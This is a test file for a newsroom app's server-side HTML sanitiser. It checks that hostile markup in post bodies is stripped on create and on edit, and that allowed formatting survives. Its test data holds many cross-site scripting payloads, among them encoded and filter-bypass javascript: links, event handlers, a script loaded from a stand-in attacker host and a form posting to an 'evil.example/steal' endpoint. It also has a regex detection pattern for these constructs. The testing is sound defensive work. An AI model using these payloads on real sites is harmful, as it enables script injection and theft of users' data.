import type { Session } from '../../src/core/api/auth';
import { describeEachEngine } from '../support/app';
import { draftBody, openNewsroom, publishPost, type Newsroom } from '../support/posts';

/** [what it tries, the body an editor pastes, what must be stored]. */
const HOSTILE: [string, string, string][] = [
  ['a script tag', '<p>学习<script>alert(1)</script>笔记</p>', '<p>学习笔记</p>'],
  ['a script with odd casing and attributes', '<p>正文</p><SCRIPT type="text/javascript" src="https://evil.example/x.js"></SCRIPT>', '<p>正文</p>'],
  ['an onerror handler on an image', '<img src="https://img.example/a.png" onerror="alert(1)">', '<img src="https://img.example/a.png" />'],
  ['an onload handler on the body', '<body onload="alert(1)"><p>正文</p></body>', '<p>正文</p>'],
  ['an onclick handler, a class and an id', '<p class="x" id="y" onclick="steal()">正文</p>', '<p>正文</p>'],
  ['a javascript: link', '<a href="javascript:alert(1)">点我</a>', '<a>点我</a>'],
  ['a mixed-case javascript: link', '<a href="JaVaScRiPt:alert(1)">点我</a>', '<a>点我</a>'],
  ['an entity-encoded javascript: link', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">点我</a>', '<a>点我</a>'],
  ['a hex-entity and tab-split javascript: link', '<a href="jav&#x09;ascript&#x3A;alert(1)">点我</a>', '<a>点我</a>'],
  ['a vbscript: link', '<a href="vbscript:msgbox(1)">点我</a>', '<a>点我</a>'],
  ['a data: image', '<p>图</p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', '<p>图</p>'],
  ['a data: link', '<a href="data:text/html,<script>alert(1)</script>">点我</a>', '<a>点我</a>'],
  ['an http (not https) image', '<img src="http://img.example/a.png">', ''],
  ['a protocol-relative link', '<a href="//evil.example/">点我</a>', '<a>点我</a>'],
  ['an iframe and its content', '<p>前</p><iframe src="https://evil.example"><p>里面</p></iframe><p>后</p>', '<p>前</p><p>后</p>'],
  ['an object and an embed', '<object data="https://evil.example/x.swf"><embed src="https://evil.example/x.swf"></object><p>正文</p>', '<p>正文</p>'],
  ['a style with expression()', '<p style="width: expression(alert(1))">正文</p>', '<p>正文</p>'],
  ['a style with url()', '<p style="background: url(javascript:alert(1)); text-align: center">正文</p>', '<p style="text-align:center">正文</p>'],
  ['a style element', '<style>body { display: none }</style><p>正文</p>', '<p>正文</p>'],
  ['an svg with onload', '<svg onload="alert(1)"><circle r="40"></circle></svg><p>正文</p>', '<p>正文</p>'],
  ['math markup', '<math><mtext><script>alert(1)</script></mtext></math><p>正文</p>', '<p>正文</p>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>正文</p>', '<p>正文</p>'],
  ['a form posting elsewhere', '<form action="https://evil.example/steal"><input name="phone"><button>提交</button></form><p>正文</p>', '<p>正文</p>'],
  ['unclosed tags', '<p>未闭合<b>加粗<img src=x onerror=alert(1)', '<p>未闭合<b>加粗</b></p>'],
  ['a tag split to dodge a filter', '<scr<script>ipt>alert(1)</script><p>正文</p>', 'ipt&gt;alert(1)<p>正文</p>'],
  ['a comment hiding a script', '<!--<script>alert(1)</script>--><p>正文</p>', '<p>正文</p>'],
];

const ALLOWED =
  '<h2 style="text-align:center">学习二十大精神</h2>' +
  '<p>正文有<strong>加粗</strong>、<b>粗体</b>、<em>强调</em>、<i>斜体</i>、<u>下划线</u>、<s>删除线</s>和<span>普通文字</span>。<br />换行</p>' +
  '<h3>小标题</h3><h4>更小的标题</h4>' +
  '<blockquote>引用的原文</blockquote>' +
  '<ul><li>要点一</li><li>要点二</li></ul><ol><li>第一</li></ol>' +
  '<p><a href="https://www.gov.cn/zhengce/">政策原文</a></p>' +
  '<p><img src="https://img.example/photo.jpg" alt="活动照片" width="600" height="400" /></p>' +
  '<table><thead><tr><th>社区</th><th>场次</th></tr></thead><tbody><tr><td colspan="2">惠阳社区 12 场</td></tr></tbody></table>';

describeEachEngine('post bodies are sanitised on the server', (ctx) => {
  let room: Newsroom;

  beforeAll(async () => {
    room = await openNewsroom(ctx());
  });

  const draftWith = (editor: Session, bodyHtml: string) =>
    ctx().request(editor, { method: 'POST', url: '/api/admin/posts', payload: draftBody(room.streetId, { bodyHtml: `<p>保留</p>${bodyHtml}` }) });

  it.each(HOSTILE)('strips %s', async (_attack, payload, expected) => {
    const response = await draftWith(room.editor, payload);
    expect(response.statusCode).toBe(201);
    const stored = response.json().bodyHtml as string;
    expect(stored).toBe(`<p>保留</p>${expected}`);
    expect(stored).not.toMatch(/<script|<iframe|<object|<embed|<svg|<math|<form|<meta|<style|\son\w+=|javascript:|vbscript:|data:|expression\(|url\(/i);
  });

  it('keeps the formatting RichText renders, unchanged', async () => {
    const response = await draftWith(room.editor, ALLOWED);
    expect(response.json().bodyHtml).toBe(`<p>保留</p>${ALLOWED}`);
  });

  it('sanitises an edit too, and residents read only the sanitised body', async () => {
    const post = await publishPost(ctx(), room);
    await ctx().request(room.approver, { method: 'POST', url: `/api/admin/posts/${post.id}/unpublish`, payload: { reason: '修订' } });
    const edited = await ctx().request(room.editor, {
      method: 'PATCH',
      url: `/api/admin/posts/${post.id}`,
      payload: { bodyHtml: '<p onmouseover="alert(1)">修订<script>alert(1)</script></p>' },
    });
    expect(edited.json().bodyHtml).toBe('<p>修订</p>');
    const stored = await ctx().app.db.selectFrom('posts').select('body_html').where('id', '=', post.id).executeTakeFirstOrThrow();
    expect(stored.body_html).toBe('<p>修订</p>');
  });

  it('refuses a body with nothing left to read once sanitised, and stores nothing', async () => {
    const before = await ctx().app.db.selectFrom('posts').select('id').execute();
    const response = await ctx().request(room.editor, {
      method: 'POST',
      url: '/api/admin/posts',
      payload: draftBody(room.streetId, { bodyHtml: '<script>alert(1)</script><iframe src="https://evil.example"></iframe>' }),
    });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ code: 'validation_failed', details: { field: 'bodyHtml' } });
    expect(await ctx().app.db.selectFrom('posts').select('id').execute()).toHaveLength(before.length);
  });
});
